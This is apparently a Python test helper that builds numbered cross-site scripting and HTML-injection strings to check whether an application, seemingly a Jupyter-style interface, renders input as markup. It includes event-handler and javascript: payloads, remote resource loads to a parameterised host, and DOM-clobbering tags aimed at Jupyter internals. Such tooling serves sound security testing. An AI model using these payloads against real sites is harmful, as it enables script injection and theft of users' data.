"""Strings that run a script, ask another server or take a name, if they are taken for markup."""

from __future__ import annotations

import itertools

RUN = "window.s4sHit=1"
TAGS = [
    "<script>{run}</script>",
    "<SCRIPT SRC={away}/x.js></SCRIPT>",
    "<img src=x onerror={run}>",
    "<img src={away}/i.png>",
    "<img srcset={away}/s.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><image href={away}/v.png></svg>",
    "<svg><use href={away}/u.svg#a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data={away}/o></object>",
    "<embed src={away}/e>",
    "<link rel=stylesheet href={away}/l.css>",
    "<style>@import '{away}/s.css';*{{background:url({away}/b.png)}}</style>",
    "<div style=\"background:url('{away}/d.png')\">x</div>",
    "<form action={away}/f><button>press</button></form>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video src=x onerror={run}></video>",
    "<audio src={away}/a.mp3 autoplay>",
    "<marquee onstart={run}>",
    "<a href=javascript:{run}>press</a>",
    "<base href={away}/>",
    "<meta http-equiv=refresh content='0;url={away}/m'>",
    "<template><img src=x onerror={run}></template>",
    "<button data-commandlinker-command='apputils:reset' data-commandlinker-args='{{}}'>x</button>",
    "<div id=jupyter-config-data>{{}}</div>",
    "<form id=s4s name=jupyterapp><input name=commands></form>",
]
AROUND = ["{tag}", "'\">{tag}", "--></title></textarea>{tag}", "\u202e{tag}", "${{7*7}}`{tag}"]


def strings(away: str) -> list[str]:
    """More than a hundred, each with its own number at the end, so that it can be looked for."""
    made = [
        form.format(tag=tag.format(run=RUN, away=away))
        for tag, form in itertools.product(TAGS, AROUND)
    ]
    return [f"{text}#{number}" for number, text in enumerate(made)]
